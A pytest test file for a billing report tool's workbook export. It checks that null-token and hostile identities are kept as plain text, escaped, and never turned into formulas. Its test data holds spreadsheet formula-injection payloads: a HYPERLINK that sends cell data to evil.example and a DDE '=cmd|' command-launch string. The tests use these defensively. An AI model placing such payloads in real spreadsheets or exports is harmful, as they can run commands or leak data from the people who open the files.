"""build-report end to end, from packages on disk to the workbook: hostile identities and header variables.

Every string is an identity (null tokens are billed), control characters are escaped and never fatal, no text
becomes a formula, and content sheets count nodes only through reachable summaries (docs/reports.md).
"""

import re
import zipfile
from datetime import UTC, datetime, timedelta
from xml.etree import ElementTree

import pyarrow.csv as pacsv
import pytest
from openpyxl import load_workbook
from pandas._libs.parsers import STR_NA_VALUES

from metrics_utility.cli import _parser
from metrics_utility.commands.build_report import run
from testsupport.report_data import pg_ts, write_tarball

pytestmark = pytest.mark.unit
NOW = datetime(2024, 3, 2, 4, tzinfo=UTC)
SINCE = datetime(2024, 2, 10, tzinfo=UTC)
NULL_TOKENS = sorted(set(pacsv.ConvertOptions().null_values) | set(STR_NA_VALUES))
MAIN = '{http://schemas.openxmlformats.org/spreadsheetml/2006/main}'
SHEETS = 'ccsp_summary,managed_nodes,usage_by_organizations,usage_by_modules,jobs,managed_nodes_by_organizations'


def _summary(i, host, *, job=1, ok=1, dark=0, org='Default', template='tpl', ansible_host=None):
    return {
        'id': i,
        'created': pg_ts(SINCE + timedelta(hours=1, minutes=i)),
        'modified': pg_ts(SINCE + timedelta(hours=2)),
        'host_name': host,
        'host_remote_id': i,
        'ansible_host_variable': ansible_host,
        'ok': ok,
        'dark': dark,
        'job_remote_id': job,
        'job_created': pg_ts(SINCE + timedelta(hours=1)),
        'job_template_name': template,
        'organization_name': org,
    }


def _event(i, host, module, job=1):
    return {
        'id': i,
        'created': pg_ts(SINCE + timedelta(hours=1)),
        'job_created': pg_ts(SINCE + timedelta(hours=1)),
        'event': 'runner_on_ok',
        'task_action': module,
        'resolved_action': module,
        'duration': '1.0',
        'job_remote_id': job,
        'host_name': host,
    }


def _build(tmp_path, capsys, summaries, events=(), **header):
    write_tarball(tmp_path, key='job_host_summary', rows=summaries, since=SINCE, until=SINCE + timedelta(days=1))
    if events:
        write_tarball(tmp_path, key='main_jobevent', rows=events, since=SINCE, until=SINCE + timedelta(days=1))
    env = {
        'METRICS_UTILITY_SHIP_TARGET': 'directory',
        'METRICS_UTILITY_SHIP_PATH': str(tmp_path),
        'METRICS_UTILITY_REPORT_TYPE': 'CCSPv2',
        'METRICS_UTILITY_PRICE_PER_NODE': '10',
        **{f'METRICS_UTILITY_REPORT_{k.upper()}': v for k, v in header.items()},
    }
    code = run(_parser().parse_args(['build-report', '--month', '2024-02', '--sheets', SHEETS]), env=env, now=NOW)
    out = capsys.readouterr()
    assert code == 0, out.err
    quantity = int(re.search(r'"quantity": (\d+)', out.out).group(1))
    path = tmp_path / 'reports/2024/02/CCSPv2-2024-02.xlsx'
    return quantity, path, load_workbook(path)


def _column(ws, index=0):
    """(value, data type) of a column's data cells (below the header)."""
    return [(row[index].value, row[index].data_type) for row in ws.iter_rows(min_row=2)]


def _formulas(path):
    """sheet part → its `<f>` texts; every part must be well-formed XML."""
    found = {}
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith('.xml'):
                root = ElementTree.fromstring(z.read(name))
                if formulas := [f.text for f in root.iter(f'{MAIN}f')]:
                    found[name] = formulas
    return found


OWN_FORMULAS = {'xl/worksheets/sheet1.xml': ['SUM(J8:J13)', 'G8*I8']}  # the report's own totals, nothing else


@pytest.mark.hostile
def test_null_token_host_names_are_billed(tmp_path, capsys):
    quantity, path, wb = _build(tmp_path, capsys, [_summary(i, t) for i, t in enumerate(NULL_TOKENS, 1)])
    assert quantity == len(NULL_TOKENS) == 19
    # an empty host name is billed and listed: an empty string cell (`t="inlineStr"`, no text), not a missing value
    assert _column(wb['Managed nodes']) == [(t, 's') if t else (None, 'inlineStr') for t in NULL_TOKENS]
    assert wb['Usage Reporting']['G8'].value == len(NULL_TOKENS)
    assert _formulas(path) == OWN_FORMULAS


@pytest.mark.hostile
def test_null_token_organizations_and_ansible_hosts_are_kept(tmp_path, capsys):
    tokens = [t for t in NULL_TOKENS if t]
    summaries = [_summary(i, f'web{i:02}', job=i, org=t, ansible_host=t) for i, t in enumerate(tokens, 1)]
    summaries.append(_summary(99, 'db01', job=99, org=None, ansible_host=''))
    quantity, _, wb = _build(tmp_path, capsys, summaries)
    assert quantity == len(tokens) + 1
    assert _column(wb['Managed nodes']) == [(t, 's') for t in sorted([*tokens, 'db01'])]
    assert _column(wb['Usage by organizations']) == [(t, 's') for t in sorted([*tokens, 'No organization name'])]
    assert [c.value for c in wb['Usage by organizations']['C'][1:]] == [1] * (len(tokens) + 1)


HOSTILE = [  # (identity, expected cell text)
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
    ('+1', '+1'),
    ('-1+2', '-1+2'),
    ('@SUM(A1)', '@SUM(A1)'),
    ('\t=1', '\t=1'),
    ('\r=1', '_x000D_=1'),
    ('web\x0701', 'web_x0007_01'),
    ('web01', 'web01'),
    ('web\x0001', 'web_x0000_01'),
    ('web_x0007_01', 'web_x005F_x0007_01'),
    ('#N/A', '#N/A'),
]


@pytest.mark.hostile
def test_hostile_texts_never_become_formulas_and_never_stop_the_report(tmp_path, capsys):
    summaries = [_summary(i, name, job=i, org=name, template=name) for i, (name, _) in enumerate(HOSTILE, 1)]
    events = [_event(i, name, name.replace('\x00', '') or 'ping', job=i) for i, (name, _) in enumerate(HOSTILE, 1)]
    header = {
        'company_name': '=HYPERLINK("http://evil.example","Pay here")',
        'po_number': '+1-555\x07',
        'email': '@SUM(1+1)*cmd|x',
        'end_user_company_name': '-2+3',
        'h1_heading': 'CCSP\x1b[31m',
        'end_user_city': 'Z\udcfcrich',
    }  # fmt: skip  (os.environ decodes bytes that are not UTF-8 so)
    quantity, path, wb = _build(tmp_path, capsys, summaries, events, **header)
    assert quantity == len(HOSTILE)  # web\x0701, web01, web\x0001 and web_x0007_01: four identities
    expected = sorted(HOSTILE)
    assert _column(wb['Managed nodes']) == [(shown, 's') for _, shown in expected]
    assert _column(wb['Usage by organizations']) == [(shown, 's') for _, shown in expected]
    assert _column(wb['Jobs'], 1) == [(shown, 's') for _, shown in expected]
    ws = wb['Usage Reporting']
    assert [(ws[c].value, ws[c].data_type) for c in ('B2', 'F4', 'B3', 'A8', 'A1', 'C8')] == [
        ('=HYPERLINK("http://evil.example","Pay here")', 's'),
        ('+1-555_x0007_', 's'),
        ('@SUM(1+1)*cmd|x', 's'),
        ('-2+3', 's'),
        ('CCSP_x001B_[31m', 's'),
        ('Z_xDCFC_rich', 's'),
    ]
    assert ws['B2'].quotePrefix and ws['F4'].quotePrefix and not ws['A1'].quotePrefix
    assert (ws['J2'].value, ws['J8'].value, ws['G8'].value) == ('=SUM(J8:J13)', '=G8*I8', len(HOSTILE))
    assert len(
        [
            s
            for s in wb.sheetnames
            if s not in ('Usage Reporting', 'Jobs', 'Managed nodes', 'Usage by organizations', 'Usage by modules')
        ]
    ) == len(HOSTILE)
    assert _formulas(path) == OWN_FORMULAS


CONTENT = [  # (summaries (host, job, ok, dark), events (host, job, module), Usage by modules rows)
    (
        'unreachable-only-host',
        [('dark01', 1, 0, 1), ('web01', 1, 1, 0)],
        [('dark01', 1, 'ping'), ('dark01', 1, 'ping'), ('web01', 1, 'setup')],
        [['ping', 0, 0, 2, 2.0], ['setup', 1, 1, 1, 1.0]],
    ),
    (
        'reachable-in-another-job',
        [('web01', 1, 0, 1), ('web01', 2, 1, 0)],
        [('web01', 1, 'ping'), ('web01', 2, 'ping'), ('web01', 1, 'setup')],
        [['ping', 1, 1, 2, 2.0], ['setup', 0, 0, 1, 1.0]],
    ),
]


@pytest.mark.hostile
@pytest.mark.parametrize(('summaries', 'events', 'rows'), [c[1:] for c in CONTENT], ids=[c[0] for c in CONTENT])
def test_content_sheets_count_nodes_only_through_reachable_summaries(tmp_path, capsys, summaries, events, rows):
    jhs = [_summary(i, h, job=j, ok=ok, dark=dark) for i, (h, j, ok, dark) in enumerate(summaries, 1)]
    jev = [_event(i, h, m, job=j) for i, (h, j, m) in enumerate(events, 1)]
    quantity, _, wb = _build(tmp_path, capsys, jhs, jev)
    assert quantity == 1
    assert [list(r) for r in wb['Usage by modules'].iter_rows(min_row=2, values_only=True)] == rows


RENEWAL = [  # (hostname, ansible_host, serial) of host metric rows → Managed nodes (Host name, Host names) rows
    (
        'null-token-hostnames',
        [('NA', None, 'NA'), ('null', None, 'NA'), ('None', None, 'NA'), ('nan', None, 'NA')],
        [('NA', 'NA'), ('None', 'None'), ('nan', 'nan'), ('null', 'null')],
    ),
    (
        'null-token-ansible-host',
        [('web01', 'NA', None), ('web02', 'NA', None), ('web03', '', None)],
        [('web02', 'web01, web02'), ('web03', 'web03')],
    ),  # 'NA' shared: one machine, latest name
    (
        'hostile-hostnames',
        [('=1+1', None, None), ('web\x0701', None, None), ('web01', None, None)],
        [('=1+1', '=1+1'), ('web_x0007_01', 'web_x0007_01'), ('web01', 'web01')],
    ),  # sorted by the exact names
]


@pytest.mark.hostile
@pytest.mark.parametrize(('hosts', 'nodes'), [c[1:] for c in RENEWAL], ids=[c[0] for c in RENEWAL])
def test_renewal_guidance_keeps_every_hostname(tmp_path, capsys, hosts, nodes):
    rows = [
        {
            'hostname': h,
            'ansible_host_variable': a,
            'ansible_product_serial': s,
            'deleted': 'f',
            'first_automation': pg_ts(SINCE),
            'last_automation': pg_ts(SINCE + timedelta(hours=i)),
            'automated_counter': 1,
        }
        for i, (h, a, s) in enumerate(hosts)
    ]
    write_tarball(tmp_path, key='main_hostmetric', rows=rows, since=SINCE, until=SINCE + timedelta(days=1))
    env = {
        'METRICS_UTILITY_SHIP_TARGET': 'directory',
        'METRICS_UTILITY_SHIP_PATH': str(tmp_path),
        'METRICS_UTILITY_REPORT_TYPE': 'RENEWAL_GUIDANCE',
    }
    code = run(_parser().parse_args(['build-report', '--since', '2024-02-01']), env=env, now=NOW)
    assert code == 0, capsys.readouterr().err
    (path,) = tmp_path.glob('reports/*/*/RENEWAL_GUIDANCE-*.xlsx')
    wb = load_workbook(path)
    assert wb['Usage Reporting']['B6'].value == len(nodes)
    assert [(r[0], r[10]) for r in wb['Managed nodes'].iter_rows(min_row=2, values_only=True)] == nodes
    assert _formulas(path) == {}
